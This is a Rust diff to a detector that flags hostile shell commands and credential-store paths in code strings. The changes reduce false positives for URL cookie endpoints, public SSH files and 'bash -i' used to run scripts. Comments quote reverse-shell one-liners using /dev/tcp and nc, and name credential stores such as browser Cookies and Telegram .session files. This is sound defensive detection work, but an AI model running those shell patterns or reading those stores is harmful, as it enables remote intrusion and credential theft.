@@ -499,13 +499,40 @@ pub fn is_developer_config(s: &str) -> bool {
 
 pub fn mentions_credentials(s: &str) -> bool {
     // `/cookies` is a browser's store inside a profile folder
-    // (`.../Default/Network/Cookies`); alone at the start of a string, or
-    // in a URL, it is a web endpoint (httpbin's `/cookies/set`).
-    let url = s.starts_with("http://") || s.starts_with("https://");
+    // (`.../Default/Network/Cookies`); alone at the start of a string it is
+    // a web endpoint (httpbin's `/cookies/set`).
     CREDENTIAL_AC.find_iter(s).any(|m| {
-        let cookies = s[m.start() + 1..].get(..7).is_some_and(|w| w.eq_ignore_ascii_case("cookies"));
-        (!cookies || !(url || s[..m.start()].trim().is_empty())) && !in_option_name(s, m.start())
+        let cookies = is_cookies_marker(s, m.start());
+        (!cookies || !s[..m.start()].trim().is_empty())
+            && !not_a_store(s, m.start(), m.end())
+            && !in_option_name(s, m.start())
     })
+}
+
+/// Whether the credential marker at `start` is `/cookies` or `\cookies`.
+fn is_cookies_marker(text: &str, start: usize) -> bool {
+    text[start + 1..].get(..7).is_some_and(|w| w.eq_ignore_ascii_case("cookies"))
+}
+
+/// A credential marker that names no secret where it stands:
+/// - `/cookies` in a URL is a web endpoint (Amazon's
+///   `https://www.amazon.com/ap/exchangetoken/cookies`), also when the URL
+///   is an f-string or a sum whose first piece is the scheme and host
+///   (`text` is an expression's pieces joined, first piece first);
+/// - `.ssh/authorized_keys` and `.ssh/known_hosts` hold public keys and
+///   host fingerprints, nothing that signs anyone in (a cloud client's
+///   start-up script adding its user's public key to a new machine; adding
+///   one written in the code is judged by its own rule).
+fn not_a_store(text: &str, start: usize, end: usize) -> bool {
+    let url = text.starts_with("http://") || text.starts_with("https://");
+    let ssh = text[start..end].eq_ignore_ascii_case(".ssh/") || text[start..end].eq_ignore_ascii_case(".ssh\\");
+    url && is_cookies_marker(text, start) || ssh && public_ssh_file(&text[end..])
+}
+
+/// Whether `rest` starts with the name of a public file of an SSH folder.
+fn public_ssh_file(rest: &str) -> bool {
+    let rest = rest.trim_start_matches(['/', '\\']);
+    ["authorized_keys", "known_hosts"].iter().any(|n| rest.get(..n.len()).is_some_and(|w| w.eq_ignore_ascii_case(n)))
 }
 
 /// Whether byte `at` of `text` lies in a command-line option's name
@@ -617,11 +644,21 @@ fn string_needles(text: &str) -> u16 {
         // /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`) is a shell on a socket;
         // `echo -n > /dev/tcp/h/p` only tests whether a port answers.
         let port_probe = &text[m.start()..m.end()] == "/dev/tcp" && !redirects_a_stream(text);
+        // An interactive shell is a reverse shell's when its streams are
+        // wired up right after it (`bash -i >& /dev/tcp/h/p 0>&1`, `bash -i
+        // 2>&1 | nc h p`); `bash -i script.sh 2>&1` runs a script with the
+        // user's `.bashrc` read first (a cloud tool's job runner; its path
+        // often a placeholder, or the string's end in an f-string).
+        let script_run = text[m.start()..m.end()].eq_ignore_ascii_case("bash -i") && !wires_streams(&text[m.end()..]);
         let mut b = bits[i];
-        if literal || inside_word || longer_name || port_probe {
+        if literal || inside_word || longer_name || port_probe || script_run {
             b &= !HOSTILE_NEEDLE;
         }
-        if b & CREDENTIAL_NEEDLE != 0 && (in_option_name(text, m.start()) || names_a_field(text, m.start(), m.end())) {
+        if b & CREDENTIAL_NEEDLE != 0
+            && (in_option_name(text, m.start())
+                || names_a_field(text, m.start(), m.end())
+                || not_a_store(text, m.start(), m.end()))
+        {
             b &= !CREDENTIAL_NEEDLE;
         }
         found | b
@@ -655,6 +692,18 @@ pub fn keyword_stays_in_call(callee: &str, keyword: &str) -> bool {
 /// none of its arguments.
 pub fn result_holds_no_argument(callee: &str) -> bool {
     matches!(callee, "re.compile" | "regex.compile" | "len")
+}
+
+/// Whether a shell's arguments `rest` start with a redirection or a pipe
+/// (`>& /dev/tcp/...`, `2>&1 | nc ...`, `0<&196`), not a script to run.
+/// Errors merged into the output (`2>&1`, a logging idiom) wire nothing up
+/// by themselves: what follows decides (a pipe into `nc` does).
+fn wires_streams(rest: &str) -> bool {
+    let mut rest = rest.trim_start_matches([' ', '\t']);
+    while let Some(r) = rest.strip_prefix("2>&1") {
+        rest = r.trim_start_matches([' ', '\t']);
+    }
+    rest.trim_start_matches(|c: char| c.is_ascii_digit()).starts_with(['>', '<', '|'])
 }
 
 /// Whether a command line redirects a stream onto what it opens (`>&`,
@@ -1012,25 +1061,30 @@ const USER_COMPONENTS: &[&str] = &["~", "documents", "desktop", "onedrive", "pic
 
 fn component(strings: &[String], list: &[&str]) -> bool {
     let is = |t: &str| list.iter().any(|c| t.eq_ignore_ascii_case(c));
-    let cookies = std::ptr::eq(list, CREDENTIAL_COMPONENTS);
-    strings.iter().any(|s| {
+    let stores = std::ptr::eq(list, CREDENTIAL_COMPONENTS);
+    strings.iter().enumerate().any(|(i, s)| {
         if s.len() > 260 {
             return false;
         }
         let t = s.trim_matches(|c| c == '/' || c == '\\');
+        // `join(home, ".ssh", "authorized_keys")`: public keys, no store
+        // (see [`not_a_store`]).
+        if stores && t.eq_ignore_ascii_case(".ssh") && strings.get(i + 1).is_some_and(|n| public_ssh_file(n)) {
+            return false;
+        }
         // The whole string, its last path component, or the one after `~`.
         let last = t.rsplit(['/', '\\']).next().unwrap_or(t);
         let after_home =
             t.strip_prefix("~/").or_else(|| t.strip_prefix("~\\")).map(|r| r.split(['/', '\\']).next().unwrap_or(r));
         // Chrome's cookie database is `Cookies`; a lowercase `cookies` alone
         // is the name of an HTTP library's argument, not a file.
-        let cookie_file = |x: &str| cookies && x == "Cookies";
+        let cookie_file = |x: &str| stores && x == "Cookies";
         // A Telegram client's session file (`anon.session`, the `.session`
         // of `f"{name}.session"`): whoever holds it is logged in as its
         // user. A dotted module path (`sqlalchemy.orm.session`) is no file.
         let session_file = |x: &str| {
             let (b, n) = (x.as_bytes(), ".session".len());
-            cookies
+            stores
                 && b.len() >= n
                 && b[b.len() - n..].eq_ignore_ascii_case(b".session")
                 && !b[..b.len() - n].contains(&b'.')
